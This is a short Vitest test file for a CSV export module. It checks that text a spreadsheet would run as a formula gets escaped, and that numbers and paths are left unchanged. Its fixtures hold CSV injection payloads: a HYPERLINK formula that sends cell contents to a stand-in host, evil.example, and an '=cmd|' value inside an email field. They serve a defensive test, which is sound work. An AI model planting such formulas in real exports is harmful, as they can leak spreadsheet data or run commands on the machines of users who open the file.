import { describe, expect, it } from 'vitest';
import { entryCsvLines, usersCsv } from '../../src/analytics/csv.js';

describe('CSV downloads', () => {
  it('quote text a spreadsheet would run as a formula, and leave numbers and paths alone', () => {
    const line = entryCsvLines([['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-2', '@SUM(A1)', '/path', -3, 5]], false);
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+1,'-2,'@SUM(A1),/path,-3,5\n`);
    expect(usersCsv([{ user_id: 'u1', user_email: '=cmd|x@example.com', hits: 2, last_request_at: 0 }])).toBe(
      "user_id,user_email,hits,last_request_at\nu1,'=cmd|x@example.com,2,1970-01-01T00:00:00.000Z\n",
    );
  });
});
